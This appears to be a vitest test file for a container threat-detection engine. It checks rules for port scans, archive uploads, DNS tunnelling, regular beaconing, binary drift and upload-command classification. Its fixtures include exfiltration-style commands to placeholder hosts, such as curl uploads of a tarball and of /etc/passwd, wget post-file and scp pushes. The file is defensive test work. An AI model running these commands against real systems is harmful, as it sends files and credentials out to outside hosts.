import { describe, expect, it } from 'vitest';
import { detect } from '../../src/detections/engine.js';
import { registeredDomain } from '../../src/detections/names.js';
import { scenario } from '../../src/detections/scenario.js';
import { caseOfScenario } from '../../src/detections/scenario-case.js';
import { isPacking, namesUpload } from '../../src/detections/uploads.js';

const said = (drawing: string): readonly string[] =>
  detect(caseOfScenario(scenario('drawn', drawing))).findings.map((finding) => `${finding.level} ${finding.rule.id}`);

const calls = (count: number, call: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => `      ${String(at).padEnd(8)}  ${call(at)}`).join('\n');

const tries = (until: (at: number) => string): string => `
      container web
      0       node server.js
${calls(40, (at) => `> tcp 10.0.0.${at}:22${until(at)}`)}`;

describe('calls to many places', () => {
  it('are a scan when most end at once without an answer', () => {
    expect(said(tries((at) => ` until ${at}.1`))).toEqual(['medium port-scan']);
  });

  it.each([
    ['they are answered', ' received 200 until 100'],
    ['they stay open', ''],
  ])('are none when %s', (_, rest) => {
    expect(said(tries(() => rest))).toEqual([]);
  });

  it('are none when the same places are called again and again', () => {
    const collector = calls(160, (at) => `> tcp 10.0.0.${at % 40}:9100 until ${at}.1`);
    expect(said(`\n      container collector\n      0       prometheus\n${collector}`)).toEqual([]);
  });
});

describe('archives that leave a container', () => {
  const sent = (start: number): string => `
      ${start}    tar czf /tmp/a.tgz /out
      ${start + 5}    curl -s -T /tmp/a.tgz http://203.0.113.9/
      ${start + 5}.1    > tcp 203.0.113.9:80`;
  const build = (starts: readonly number[]): readonly string[] =>
    said(
      `\n      container build\n      0       bash build.sh${starts
        .map(sent)
        .join('')
        .replace(/ {4}(tar|curl)/g, '      $1')
        .replace(/ {4}>/g, '      >')}`,
    ).filter((text) => text.includes('archive'));

  it('are worth a look when it happens late and for the first time', () => {
    expect(build([1200])).toEqual(['medium archive-upload']);
  });

  it('are one finding for the timeline when it is what the container does', () => {
    expect(build([1200, 1300, 1400])).toEqual(['low archive-upload']);
  });
});

describe('names that are asked for', () => {
  const code = (at: number): string => `${at}`.padStart(4, '0').repeat(8);
  const asking = (question: (at: number) => string): readonly string[] =>
    said(`\n      container web\n      0       node server.js\n${calls(60, question)}`);

  it('carry data when they are long, many, below one domain, and ask for data', () => {
    expect(asking((at) => `? TXT ${code(at)}.t.example.net`)).toEqual(['high dns-tunnel']);
  });

  it('are worth a look when they ask for addresses', () => {
    expect(asking((at) => `? A ${code(at)}.t.example.net`)).toEqual(['medium dns-tunnel']);
  });

  it.each<[string, (at: number) => string]>([
    ['short', (at) => `? TXT ${at}.2.3.4.zen.blocklist.example`],
    ['below a domain each', (at) => `? TXT _dmarc.${code(at)}.example`],
    ['always the same few', (at) => `? TXT ${code(at % 9)}.t.example.net`],
    ['those of the cluster', (at) => `? A ${code(at)}.shop.svc.cluster.local`],
  ])('are none when they are %s', (_, question) => {
    expect(asking(question)).toEqual([]);
  });

  it.each([
    ['a.b.example.com', 'example.com'],
    ['a.example.co.uk', 'example.co.uk'],
    ['example.de', 'example.de'],
  ])('%s belongs to %s', (name, domain) => {
    expect(registeredDomain(name)).toBe(domain);
  });
});

describe('calls to one place outside', () => {
  const calling = (second: (at: number) => number, rest = ''): readonly string[] =>
    said(`
      container web
      0       /app/server
${Array.from({ length: 12 }, (_, at) => `      ${String(second(at)).padEnd(8)}  > tcp 203.0.113.9:443${rest}`).join('\n')}`);

  it('are told for the timeline when their gaps are equal', () => {
    expect(calling((at) => at * 60)).toEqual(['low regular-calls']);
  });

  it.each<[string, (at: number) => number, string]>([
    ['the gaps differ', (at) => at * at * 7, ''],
    ['they follow at once', (at) => at * 2, ''],
    ['much is fetched each time', (at) => at * 60, ' sent 100 received 900000'],
  ])('are nothing when %s', (_, second, rest) => {
    expect(calling(second, rest)).toEqual([]);
  });
});

describe('a program that the image did not bring', () => {
  const running = (rows: string): readonly string[] =>
    said(`\n      container web\n      0       node server.js\n${rows}`).filter((text) => text.includes('drift'));

  it('was written before it ran, in the same container', () => {
    expect(running('      5         node fetch.js\n      6           write /opt/x\n      9         /opt/x')).toEqual(['medium drift']);
  });

  it.each([
    ['it was read', '      5         node fetch.js\n      6           read /opt/x\n      9         /opt/x'],
    ['it ran before', '      5         /opt/x\n      6         node fetch.js\n      7           write /opt/x'],
    [
      'it was written elsewhere',
      '      5         /opt/x\n      container shop\n      0       node server.js\n      1         write /opt/x',
    ],
  ])('is none when %s', (_, rows) => {
    expect(running(rows)).toEqual([]);
  });

  it('is one finding however often it runs', () => {
    const often = Array.from({ length: 5 }, (_, at) => `      ${20 + at}        /opt/x`).join('\n');
    expect(running(`      5         node fetch.js\n      6           write /opt/x\n${often}`)).toEqual(['medium drift']);
  });
});

describe('a command line', () => {
  it.each([
    ['curl', '-s -T /tmp/.c.gz http://host/', true],
    ['curl', '-F file=@/tmp/x http://host/', true],
    ['curl', '--data-binary @/etc/passwd http://host/', true],
    ['curl', '-d {"a":1} http://host/', false],
    ['curl', '-fsSL http://host/x', false],
    ['wget', '--post-file=/tmp/x http://host/', true],
    ['wget', '-qO- http://host/', false],
    ['scp', '/tmp/x user@host:/srv/', true],
    ['scp', 'user@host:/srv/x /tmp/', false],
    ['rsync', '-a /data/ host::backup', true],
    ['aws', 's3 cp /tmp/x s3://bucket/x', true],
    ['aws', 's3 cp s3://bucket/x /tmp/x', false],
  ])('%s %s sends a file: %s', (name, words, isUpload) => {
    expect(namesUpload(name, words)).toBe(isUpload);
  });

  it.each([
    ['tar', 'czf /tmp/x.tgz /srv', true],
    ['tar', '-C /srv -cf - .', true],
    ['tar', '--create --file x.tar y', true],
    ['tar', 'xzf /tmp/tools.tgz', false],
    ['tar', '-tzf x.tgz', false],
    ['gzip', '-c /tmp/x', true],
    ['gzip', '-d x.gz', false],
    ['gzip', 'x --decompress', false],
    ['7z', 'a x.7z y', true],
    ['7z', 'x x.7z', false],
    ['pg_dump', 'shop', true],
    ['cat', 'x', false],
  ])('%s %s packs: %s', (name, words, packs) => {
    expect(isPacking(name, words)).toBe(packs);
  });

  it('of any length is judged at once', () => {
    const long = `${'a:'.repeat(50_000)} ${'-'.repeat(50_000)}`;
    for (const name of ['curl', 'scp', 'rsync', 'aws', 'gsutil']) expect(namesUpload(name, long)).toBe(false);
    expect(isPacking('gzip', long)).toBe(true);
  });
});
